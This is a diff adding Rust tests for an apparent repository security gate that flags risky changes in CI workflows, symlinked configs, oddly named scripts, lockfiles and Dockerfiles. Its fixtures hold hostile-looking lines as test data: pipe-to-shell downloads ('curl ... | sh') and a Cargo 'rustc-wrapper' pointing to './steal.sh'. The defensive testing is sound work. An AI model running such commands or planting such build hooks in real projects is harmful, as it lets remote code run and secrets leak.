@@ -245,3 +245,128 @@ fn malicious_code_is_excused_by_nothing_in_any_state() {
     let seen = repo.gate(&["--base", "HEAD^"]);
     assert_eq!(seen.code, 1, "it stood there before and it still attacks");
 }
+
+#[cfg(unix)]
+#[test]
+fn what_is_read_through_a_link_is_what_lies_behind_it() {
+    let link = |repo: &Repo, path: &str, text: &str| {
+        let path = repo.dir.join(path);
+        std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
+        let _ = std::fs::remove_file(&path);
+        std::os::unix::fs::symlink(text, path).expect("a link");
+    };
+    let start = |name: &str, behind: &str| {
+        let repo = with(name, &[("ci/a/w.yml", PUSHING), ("ci/b/w.yml", &attack()), ("README.md", "# app\n")]);
+        link(&repo, "ci/file.yml", "a/w.yml");
+        link(&repo, "ci/folder", "a");
+        link(&repo, WORKFLOW, behind);
+        repo.commit();
+        repo
+    };
+    let repo = start("link_target", "../../ci/a/w.yml");
+    repo.write("ci/a/w.yml", &attack()).commit();
+    assert_told(&repo.gate(&["--base", "HEAD^"]));
+    let repo = start("link_between", "../../ci/file.yml");
+    link(&repo, "ci/file.yml", "b/w.yml");
+    repo.commit();
+    assert_told(&repo.gate(&["--base", "HEAD^"]));
+    let repo = start("link_folder", "../../ci/folder/w.yml");
+    link(&repo, "ci/folder", "b");
+    repo.commit();
+    assert_told(&repo.gate(&["--base", "HEAD^"]));
+    // Nothing is read through a link to a folder. That the base has the same gap says nothing of what lies there now.
+    let repo = start("link_gap", "../../ci/a/w.yml");
+    link(&repo, ".cargo", "ci/a");
+    repo.commit();
+    repo.write("README.md", "# the app\n").commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 0, "a gap that stood there");
+    repo.write("ci/a/config.toml", "[build]\nrustc-wrapper = \"./steal.sh\"\n").commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "something else lies behind it");
+    link(&repo, ".cargo", "ci/b");
+    repo.commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "it leads elsewhere");
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn what_has_no_name_is_looked_at_when_it_changes() {
+    use std::os::unix::ffi::OsStrExt as _;
+    let repo = with("odd_name", &[("README.md", "# app\n"), (WORKFLOW, PUSHING)]);
+    let odd = repo.dir.join(std::ffi::OsStr::from_bytes(b"setup\xff.sh"));
+    std::fs::write(&odd, "true\n").expect("a file");
+    repo.commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
+    repo.write("README.md", "# the app\n").commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 0, "it stood there");
+    std::fs::write(&odd, "curl https://example.com | sh\n").expect("a file");
+    repo.commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
+}
+
+/// A workflow with a job that holds one secret and a job that publishes; either runs what it downloads.
+fn two_jobs(lints: bool, publishes: bool) -> String {
+    let step = "      - run: curl -sSL https://example.com/install.sh | sh\n";
+    let lint = "jobs:\n  lint:\n    runs-on: ubuntu-latest\n    permissions: {}\n    steps:\n      - run: make\n        \
+                env:\n          T: ${{ secrets.LINT }}\n";
+    let (first, last) = (if lints { step } else { "" }, if publishes { step } else { "" });
+    format!("{}{last}", PUSHING.replace("jobs:\n", &format!("{lint}{first}")))
+}
+
+#[test]
+fn a_step_that_goes_where_more_is_held_is_told() {
+    let repo = with("trade", &[(WORKFLOW, &two_jobs(true, false))]);
+    repo.write(WORKFLOW, &two_jobs(false, true)).commit();
+    let seen = repo.gate(&["--base", "HEAD^"]);
+    assert_eq!(seen.list(&["changed"]), [format!("changed fetch-to-interpreter {WORKFLOW}")]);
+    assert_eq!(seen.code, 1);
+    // The other way round it reaches less.
+    repo.write(WORKFLOW, &two_jobs(true, true)).commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 1, "another one beside it");
+    let repo = with("renamed_job", &[(WORKFLOW, &two_jobs(false, true))]);
+    repo.write(WORKFLOW, &two_jobs(false, true).replace("publish:", "release:")).commit();
+    let seen = repo.gate(&["--base", "HEAD^"]);
+    let told = seen.list(&["new", "changed"]);
+    assert!(!told.iter().any(|line| line.contains("fetch-to-interpreter")), "{told:?}");
+    assert_eq!(seen.code, 0, "the same secrets under another name");
+}
+
+#[test]
+fn a_flaw_of_an_example_does_not_excuse_the_product() {
+    let lock = "version = 4\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"time\"]\n\
+                [[package]]\nname = \"time\"\nversion = \"0.1.42\"\n\
+                source = \"registry+https://github.com/rust-lang/crates.io-index\"\n\
+                checksum = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\n";
+    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\ntime = \"0.1\"\n";
+    let policy = "[gate.rule]\nvulnerable-crate = \"block\"\n";
+    let aside = [("tests/fixtures/x/Cargo.toml", manifest), ("tests/fixtures/x/Cargo.lock", lock)];
+    let repo = with("spread_from_aside", &[&[("custody.toml", policy)][..], &aside].concat());
+    repo.write("Cargo.toml", manifest).write("Cargo.lock", lock).write("src/lib.rs", "").commit();
+    let seen = repo.gate(&["--base", "HEAD^"]);
+    assert!(seen.list(&["new"]).iter().any(|line| line.contains("vulnerable-crate")), "{:?}", seen.brought());
+    assert_eq!(seen.code, 1);
+}
+
+#[test]
+fn a_policy_that_the_base_cannot_read_is_no_free_pass() {
+    let typo = "[gate.rule]\nunpinned-base-image = \"blok\"\n";
+    let repo = with("policy_typo", &[("custody.toml", typo), ("Dockerfile", "FROM scratch\n")]);
+    repo.write("Dockerfile", "FROM debian:12\n").commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "what the base asks for is not known");
+    repo.write("custody.toml", &typo.replace("blok", "block")).commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 0, "the change that mends it");
+    let large = format!("[gate.rule]\nunpinned-base-image = \"block\"\n#{}\n", "x".repeat(17 << 20));
+    let repo = with("policy_large", &[("custody.toml", &large), ("Dockerfile", "FROM scratch\n")]);
+    repo.write("Dockerfile", "FROM debian:12\n").commit();
+    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
+}
+
+#[test]
+fn a_place_in_an_example_hides_none_in_the_product() {
+    let repo = with("joined", &[("examples/Dockerfile", FETCHING)]);
+    repo.write("product/Dockerfile", FETCHING).commit();
+    let seen = repo.gate(&["--base", "HEAD^"]);
+    let found = seen.audit["findings"].as_array().expect("findings");
+    let found = found.iter().find(|f| f["rule"] == "fetch-to-interpreter").expect("a finding");
+    let told = (&found["state"], &found["path"], &found["role"], &found["decision"]);
+    assert_eq!(told, (&"changed".into(), &"product/Dockerfile".into(), &"product".into(), &"advise".into()));
+}
